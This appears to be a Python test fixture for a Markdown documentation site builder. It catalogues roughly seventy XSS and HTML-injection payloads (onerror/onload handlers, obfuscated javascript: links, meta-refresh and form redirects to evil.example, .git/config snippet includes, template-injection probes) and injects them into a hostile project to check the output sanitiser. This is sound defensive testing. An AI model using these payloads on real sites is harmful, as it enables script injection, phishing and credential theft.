"""Payloads from the December 2026 security probe (../shared/reviews/2026-12-security-probe.md),
as reviewed data: where each goes, which finding it stands for, and a marker (LGX-n) that shows
whether it ran (console.log) or was printed.

`ACCEPTED` payloads pass validation and go into a fixture site that is built and then held to the
output gate. `MARKUP` is every prose payload, refused by validation or not, for the test that
renders it straight through Markdown and the sanitiser (the output boundary without the input one).
"""
from __future__ import annotations

import contextlib
import copy
import pathlib
from dataclasses import dataclass

import yaml

from conftest import ROOT, make_project


@dataclass(frozen=True)
class Payload:
    n: int
    finding: str
    where: str  # "answer", "title", "question", "phase-name", "kata-call", …
    text: str

    @property
    def marker(self) -> str:
        return f"LGX-{self.n}"


def _js(n: int) -> str:
    return f'console.log(\\"LGX-{n}\\")'


def _p(n: int, finding: str, where: str, text: str) -> Payload:
    return Payload(n, finding, where, text.replace("JS", f'console.log("LGX-{n}")').replace("MARK", f"LGX-{n}"))


# prose payloads: put into a question's answer (and rendered directly by the markup test)
MARKUP = [
    _p(1, "F2", "answer", "MARK \\`<img src=x onerror=JS>\\` escaped backticks"),
    _p(2, "F2", "answer", "MARK a `x\n\n<img src=x onerror=JS>\n\n`y code span across a blank line"),
    _p(3, "F2", "answer", "MARK\n\n```\n<img src=x onerror=JS>\n"),
    _p(4, "F2", "answer", "MARK\n\n~~~\n<img src=x onerror=JS>\n"),
    _p(5, "F2", "answer", "MARK \\`<script>JS</script>\\`"),
    _p(6, "F2", "answer", "MARK \\`<style>body{display:none}</style>\\`"),
    _p(7, "F3", "answer", "Hover MARK\n{: onmouseover=\"JS\" }"),
    _p(8, "F3", "answer", "[MARK](https://ok.example){: onclick=\"JS\" }"),
    _p(9, "F3", "answer", "MARK para\n{: onclick='JS' }"),
    _p(10, "F3", "answer", "MARK para\n{: onclick=JS }"),
    _p(11, "F3", "answer", "MARK overlay\n{: style=\"position:fixed;inset:0;z-index:9999;background:red\" }"),
    _p(12, "F3", "answer", "MARK widget\n{: data-lg-widget=\"progress-page\" data-lg-data='{}' }"),
    _p(13, "F3", "answer", "MARK clobber\n{: #__md_scope }"),
    _p(14, "F3", "answer", "MARK class\n{: .md-header }"),
    _p(15, "F3", "answer", "[MARK](https://ok.example){: href=\"jav&#x61;script:JS\" }"),
    _p(16, "F4", "answer", "[MARK](jav&#x61;script:JS)"),
    _p(17, "F4", "answer", "[MARK](javascript&colon;JS)"),
    _p(18, "F4", "answer", "[MARK](java&#9;script:JS)"),
    _p(19, "F4", "answer", "[MARK](&#106;avascript:JS)"),
    _p(20, "F4", "answer", "[MARK][r]\n\n[r]: jav&#x61;script:JS"),
    _p(21, "F18", "answer", "MARK ![x](https://evil.example/track.png)"),
    _p(22, "F1", "answer", "MARK <svg/onload=JS>"),
    _p(23, "F1", "answer", "MARK <img/src/onerror=JS>"),
    _p(24, "F2", "answer", "MARK ``x` <img src=x onerror=JS> ``"),
    _p(25, "F8", "answer", "MARK\n\n```text\n--8<-- \".git/config\"\n```"),
    _p(26, "F8", "answer", "MARK\n\n```text\n--8<-- \"mkdocs.yml\"\n```"),
    _p(27, "F18", "answer", "MARK \u202eevil\u202c and \x1b[31m"),
    _p(28, "F3", "answer", "MARK <div markdown onclick=JS>x</div>"),
    _p(29, "F4", "answer", "[MARK](<javascript:JS>)"),
    _p(30, "F4", "answer", "[MARK](data:text/html,<script>JS</script>)"),
    _p(31, "F3", "answer", "MARK <a href=\"jav&#x61;script:JS\">a</a>"),
    _p(32, "F2", "answer", "MARK <form action=https://evil.example><input type=password></form>"),
    _p(33, "F7", "answer", "MARK <meta http-equiv=refresh content=\"0;url=https://evil.example\">"),
    _p(34, "F2", "answer", "MARK <base href=https://evil.example/>"),
    _p(35, "F2", "answer", "MARK <iframe srcdoc=\"<script>JS</script>\"></iframe>"),
    _p(36, "F2", "answer", "MARK <a target=_blank href=https://evil.example>x</a>"),
    _p(37, "F2", "answer", "MARK <!-- unclosed comment <img src=x onerror=JS>"),
    _p(38, "F2", "answer", "MARK {{ config }} {% include 'x' %} {{ ''.__class__ }}"),
    _p(39, "F3", "answer", "MARK *[HTML]: <img src=x onerror=JS>"),
    _p(65, "F2", "answer", "MARK footnote[^1]\n\n[^1]: <img src=x onerror=JS>"),
    _p(66, "F2", "answer", "MARK <link rel=stylesheet href=https://evil.example/x.css>"),
    _p(67, "F4", "answer", "[MARK](<java\nscript:JS>)"),
    _p(68, "F4", "answer", "[MARK](java\u200bscript:JS)"),
    _p(69, "F2", "answer", "MARK <object data=https://evil.example/x></object><embed src=https://evil.example/y>"),
    _p(70, "F3", "answer", "MARK <details open ontoggle=JS><summary>x</summary></details>"),
]

# payloads in fields that are not prose: (where, value); `where` names the field the fixture fills
FIELDS = [
    _p(40, "F1", "phase-name", "Phase 4: Behavioral MARK <svg/onload=JS>"),
    _p(41, "F1", "category-name", "LLM MARK <svg/onload=JS>"),
    _p(42, "F1", "round-name", "Recruiter MARK <svg/onload=JS>"),
    _p(43, "F1", "round-tests", "Tests MARK <svg/onload=JS>"),
    _p(44, "F1", "round-prepare", "Prepare {{ config }} MARK <svg/onload=JS>"),
    _p(45, "F1", "level-name", "Junior MARK <svg/onload=JS>"),
    _p(46, "F1", "level-emphasis", "Emphasis MARK <svg/onload=JS>"),
    _p(47, "F1", "title", "Title MARK </title><svg/onload=JS>"),
    _p(48, "F1", "related-title", "Related MARK <img/src/onerror=JS>"),
    _p(49, "F2", "case-title", "Case MARK \\`<script>JS</script>\\`"),
    _p(50, "F7", "question", 'MARK 0;url=https://evil.example/phish" http-equiv="refresh" data-x="An agent in production runs long.'),
    _p(51, "F7", "kata-summary", 'Fuse lists MARK "<svg/onload=JS> with RRF ok'),
    _p(52, "F5", "kata-call", "reciprocal_rank_fusion([]) or '` <img src=x onerror=JS> MARK `' and []"),
    _p(53, "F5", "kata-expected", "[] or '` <img src=x onerror=JS> MARK `' and []"),
    _p(54, "F5", "kata-test-name", "empty MARK <svg/onload=JS>"),
    _p(55, "F5", "kata-signature", "f(x)` <img src=x onerror=JS> MARK `"),
    _p(56, "F5", "kata-title", "RRF MARK <svg/onload=JS>"),
    _p(57, "F6", "reference-title", "Ref MARK <img/src/onerror=JS>"),
    _p(58, "F18", "measures", "MARK measures\n\n# Fake H1 { #main }"),
    _p(59, "F18", "weak", "MARK weak <svg/onload=JS>"),
    _p(60, "F3", "diagnostic-intro", "MARK intro\n{: onclick=\"JS\" }"),
    _p(61, "F1", "checklist-text", "MARK check <svg/onload=JS>"),
    _p(62, "F1", "follow-up-question", "MARK follow-up {: onclick=JS } <svg/onload=JS>"),
    _p(63, "F7", "case-prompt", 'MARK design it" http-equiv="refresh" content="0;url=https://evil.example'),
    _p(64, "F1", "strong", "MARK strong </div><img/src/onerror=JS>"),
]

# The fixture is built with the markup regexes off (see build_without_input_checks); these are refused
# by checks that stay on: snippet markers (F8, the build would fail on them) and control characters.
REFUSED_BY_OTHER_CHECKS = {25, 26, 27}
ACCEPTED = [p for p in MARKUP if p.n not in REFUSED_BY_OTHER_CHECKS] + FIELDS


def _edit(path: pathlib.Path, change) -> None:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(data)
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True), encoding="utf-8")


def hostile_project(dest: pathlib.Path) -> pathlib.Path:
    """A small project whose content carries every accepted payload."""
    exemplar = yaml.safe_load((ROOT / "data/questions/llm-rag/prefill-vs-decode.yaml").read_text(encoding="utf-8"))
    by_where = {p.where: p.text for p in FIELDS}
    questions = {}
    markup = [p for p in ACCEPTED if p.where == "answer"]
    for i in range(0, len(markup), 6):  # a handful of payloads per page keeps each answer readable
        q = copy.deepcopy(exemplar)
        q["id"], q["title"] = f"hostile-{i}", f"Hostile page {i}"
        q["answer"] = "\n\n".join(p.text for p in markup[i:i + 6]) + "\n\n" + q["answer"]
        q["related"] = []
        questions[f"llm-rag/hostile-{i}.yaml"] = q
    q = copy.deepcopy(exemplar)
    q.update(id="hostile-fields", title=by_where["title"], question=by_where["question"] + " " + q["question"],
             measures=by_where["measures"] + " " + q["measures"], related=["hostile-related"])
    q["weak"] = [by_where["weak"]] + q["weak"]
    q["strong"] = [by_where["strong"]] + q["strong"]
    q["follow_ups"][0]["question"] = by_where["follow-up-question"]
    q["references"] = [{"title": by_where["reference-title"], "url": "https://example.org/paper"}]
    questions["llm-rag/hostile-fields.yaml"] = q
    r = copy.deepcopy(exemplar)
    r.update(id="hostile-related", title=by_where["related-title"], related=[])
    questions["llm-rag/hostile-related.yaml"] = r
    root = make_project(dest, {rel: yaml.safe_dump(d, sort_keys=False, allow_unicode=True) for rel, d in questions.items()})
    data = root / "data"

    def rounds(d):
        d["rounds"][0].update(name=by_where["round-name"], tests=by_where["round-tests"], prepare=by_where["round-prepare"])

    def levels(d):
        d["levels"][0].update(name=by_where["level-name"], emphasis=by_where["level-emphasis"])

    def categories(d):
        d["categories"][0]["name"] = by_where["category-name"]

    def phase(d):
        d["name"] = by_where["phase-name"]
        d["checklist"][0]["text"] = by_where["checklist-text"]

    def diagnostic(d):
        d["intro"] = by_where["diagnostic-intro"]

    _edit(data / "rounds.yaml", rounds)
    _edit(data / "levels.yaml", levels)
    _edit(data / "categories.yaml", categories)
    _edit(data / "phases/phase-4.yaml", phase)
    _edit(data / "diagnostic.yaml", diagnostic)

    kata = yaml.safe_load((ROOT / "data/katas/reciprocal-rank-fusion.yaml").read_text(encoding="utf-8"))
    kata.update(title=by_where["kata-title"], summary=by_where["kata-summary"], signature=by_where["kata-signature"],
                related=[])
    kata["tests"][0].update(name=by_where["kata-test-name"], call=by_where["kata-call"], expected=by_where["kata-expected"],
                            example=True)
    (data / "katas").mkdir(exist_ok=True)
    (data / "katas/reciprocal-rank-fusion.yaml").write_text(yaml.safe_dump(kata, sort_keys=False, allow_unicode=True),
                                                          encoding="utf-8")
    case = yaml.safe_load((ROOT / "data/cases/chat-with-your-docs.yaml").read_text(encoding="utf-8"))
    case.update(title=by_where["case-title"], prompt=by_where["case-prompt"] + " " + case["prompt"], related=[])
    (data / "cases").mkdir(exist_ok=True)
    (data / "cases/chat-with-your-docs.yaml").write_text(yaml.safe_dump(case, sort_keys=False, allow_unicode=True),
                                                       encoding="utf-8")
    return root


def build_without_input_checks(root: pathlib.Path, site: pathlib.Path) -> None:
    """Build the project with the validator's markup regexes switched off, so every payload reaches
    the output: what the site shows then depends on the output boundary alone."""
    from unittest import mock

    from mkdocs.commands.build import build
    from mkdocs.config import load_config

    from loopguide import markup

    with mock.patch.object(markup, "unsafe_html", lambda text: []), contextlib.chdir(root):
        config = load_config(config_file=str(root / "mkdocs.yml"), site_dir=str(site), strict=False)  # strict would refuse a few; the point is the output
        build(config)
